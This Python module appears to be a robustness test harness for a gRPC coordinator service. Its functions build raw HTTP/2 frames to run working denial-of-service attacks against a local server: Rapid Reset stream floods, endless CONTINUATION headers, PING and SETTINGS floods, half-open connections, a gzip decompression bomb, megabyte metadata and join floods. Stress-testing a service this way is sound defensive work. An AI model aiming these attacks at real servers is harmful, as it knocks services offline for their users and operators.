"""What somebody does who means harm, each for a few seconds. An attack raises only when it cannot be carried out."""
import socket
import struct
import threading
import time
import zlib

import grpc

import wire
from coordinator import METHOD, call, call_patiently, push

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS = 4


def literal(name, value):
    """A header that HPACK keeps nowhere (RFC 7541, 6.2.2)."""

    def text(data):
        prefix = bytearray()
        size = len(data)
        if size < 127:
            prefix.append(size)
        else:
            prefix.append(127)
            size -= 127
            while size >= 128:
                prefix.append(size & 127 | 128)
                size >>= 7
            prefix.append(size)
        return bytes(prefix) + data

    return b"\0" + text(name) + text(value)


def request_headers(path):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", path.encode()) +
            literal(b":authority", b"a") + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def connect(address, source="127.0.0.1"):
    made = socket.socket()
    made.settimeout(10)
    made.bind((source, 0))
    made.connect(address)
    return made


def try_send(connection, data):
    """False when the other side has hung up, which is its right."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def drain(connection):
    """Reads until the end, or nothing comes for a second; whether the other side hung up."""
    connection.settimeout(1)
    try:
        while connection.recv(1 << 16):
            pass
        return True
    except TimeoutError:
        return False
    except OSError:
        return True


def garbage(address, count):
    greetings = [b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(512),
                 bytes(range(256)) * 64, b"\xff" * 100000, PREFACE + b"\xff" * 4096, PREFACE + bytes(4096),
                 PREFACE + frame(SETTINGS, 0, 0) + frame(0x42, 0, 0, bytes(1000)),
                 PREFACE + frame(SETTINGS, 0, 0) + b"\xff\xff\xff\x01\x04\x00\x00\x00\x01" + bytes(100000)]
    for i in range(count):
        connection = connect(address)
        try_send(connection, greetings[i % len(greetings)])
        connection.close()


def half_open(address, count, greeting=b"", source="127.0.0.1"):
    """Connections that say this much and then nothing, ever. Returns those that were made."""
    made = []
    for _ in range(count):
        try:
            connection = connect(address, source)
        except OSError:
            continue
        if try_send(connection, greeting):
            made.append(connection)
    return made


def endless_headers(address, mebibytes, source="127.0.0.2"):
    """A header block that never ends, one CONTINUATION after another."""
    connection = connect(address, source)
    block = literal(b"x", b"y" * 16000)
    try_send(connection, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, request_headers(METHOD + "Join")))
    for _ in range(mebibytes * 64):
        if not try_send(connection, frame(CONTINUATION, 0, 1, block)):
            break
    connection.close()


# Where a flood may go: what waits, what has no handler before its message is there, what gRPC answers itself, and
# nothing that exists.
FLOODED = [METHOD + "Pull", METHOD + "Join", "/grpc.health.v1.Health/Check",
           "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo", "/no/such"]


def rapid_reset(address, count, path=METHOD + "Pull", at_once=1, source="127.0.0.2"):
    """Streams that are opened and given up at once."""
    connection = connect(address, source)
    headers = request_headers(path)
    try_send(connection, PREFACE + frame(SETTINGS, 0, 0))
    for first in range(0, count, at_once):
        if not try_send(connection, b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, headers) + frame(RESET, 0, 2 * i + 1, struct.pack(">I", 8))
                for i in range(first, first + at_once))):
            break
    connection.close()


GREETING = PREFACE + frame(SETTINGS, 0, 0)


def pings(count):
    return frame(PING, 0, 0, bytes(8)) * count


class ReturningPings:
    """So many connections, each with a burst of pings every half a second, and made anew when it is ended."""

    def __init__(self, address, connections, count, seconds, source="127.0.0.1"):
        self.ended = 0
        self._burst, self._until = pings(count), time.monotonic() + seconds
        self._threads = [threading.Thread(target=self._flood, args=(address, source)) for _ in range(connections)]
        for thread in self._threads:
            thread.start()

    def _flood(self, address, source):
        connection = None
        while time.monotonic() < self._until:
            try:
                if connection is None:
                    connection = connect(address, source)
                    connection.settimeout(1)
                    connection.sendall(GREETING)
                connection.sendall(self._burst)
                time.sleep(0.5)
            except OSError:
                if connection is not None:
                    connection.close()
                connection = None
                self.ended += 1
                time.sleep(0.2)
        if connection is not None:
            connection.close()

    def goes_on(self):
        return any(thread.is_alive() for thread in self._threads)


def control_floods(address, count, source="127.0.0.2"):
    for each in (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), frame(PING, 0, 0, bytes(8)),
                 frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))):
        connection = connect(address, source)
        try_send(connection, PREFACE + frame(SETTINGS, 0, 0))
        for _ in range(count // 100):
            if not try_send(connection, each * 100):
                break
        connection.close()


def long_metadata(coordinator):
    """One megabyte of it; the code of the refusal."""
    with coordinator.channel() as channel:
        try:
            channel.unary_unary(METHOD + "Join")(b"", metadata=[("x", "y" * (1 << 20))], timeout=10)
            return None
        except grpc.RpcError as error:
            return error.code()


def refusals(coordinator, method, requests):
    """The codes of these calls, as a list."""
    codes = []
    with coordinator.channel(options=[("grpc.max_send_message_length", -1)]) as channel:
        for request in requests:
            try:
                call(channel, method, request)
                codes.append(grpc.StatusCode.OK)
            except grpc.RpcError as error:
                codes.append(error.code())
    return codes


def packed_message(address, unpacked_mebibytes):
    """A Join that gzip makes that large. It never ends well: its checksum is wrong, which is seen after the fact."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    mebibyte = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = start + mebibyte * unpacked_mebibytes + packer.flush()
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    headers = request_headers(METHOD + "Join") + literal(b"grpc-encoding", b"gzip")
    connection = connect(address)
    try_send(connection, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, headers))
    for at in range(0, len(message), 16384):
        piece = message[at:at + 16384]
        if not try_send(connection, frame(DATA, int(at + 16384 >= len(message)), 1, piece)):
            break
    drain(connection)
    connection.close()
    return len(packed)


def open_streams(channel, path, count, first=None):
    """Streams that stay open: what they are read from."""
    release = threading.Event()

    def messages():
        if first is not None:
            yield first
        release.wait(120)

    return release, [channel.stream_stream(path)(messages()) for _ in range(count)]


def join_flood(coordinator, count):
    """Joins under ever new names as fast as one client can; how many were let in and how many told to come back."""
    codes = {}
    with coordinator.channel() as channel:
        join = channel.unary_unary(METHOD + "Join")
        waiting = [join.future(wire.join_request(f"flood-{i}", b"f" * 32, role=3), timeout=60) for i in range(count)]
        for future in waiting:
            code = future.code()
            codes[code] = codes.get(code, 0) + 1
    return codes


def join_and_leave(coordinator, count, at_once=250):
    """`count` workers, each under a name of its own; they train nothing."""
    _, manifest_hash = wire.manifest("w", [1 << 18])
    with coordinator.channel() as channel:
        join, leave = channel.unary_unary(METHOD + "Join"), channel.unary_unary(METHOD + "Leave")
        for first in range(0, count, at_once):
            names = [f"guest-{i}" for i in range(first, min(count, first + at_once))]
            joins = [join.future(wire.join_request(name, b"g" * 32, manifest_hash), timeout=60) for name in names]
            members = [wire.Member(name, future.result()) for name, future in zip(names, joins)]
            for future in [leave.future(wire.field(1, member.reference), timeout=60) for member in members]:
                future.result()


def push_refused(channel, messages):
    """Code and sentence of a push that must not be accepted."""
    try:
        push(channel, messages)
        return grpc.StatusCode.OK, ""
    except grpc.RpcError as error:
        return error.code(), error.details()


def half_uploads(coordinator, members, header_of, chunks, seconds):
    """One upload of each of these members, which stops after these chunks and is kept open for so long, or is told to
    come back. How many had room, how many not."""
    channels, calls, release = [], [], threading.Event()

    def messages(member):
        yield header_of(member)
        yield from chunks
        release.wait(seconds)

    for member in members:
        channel = coordinator.channel()
        channels.append(channel)
        calls.append(channel.stream_unary(METHOD + "Push").future(messages(member)))
    return channels, calls, release
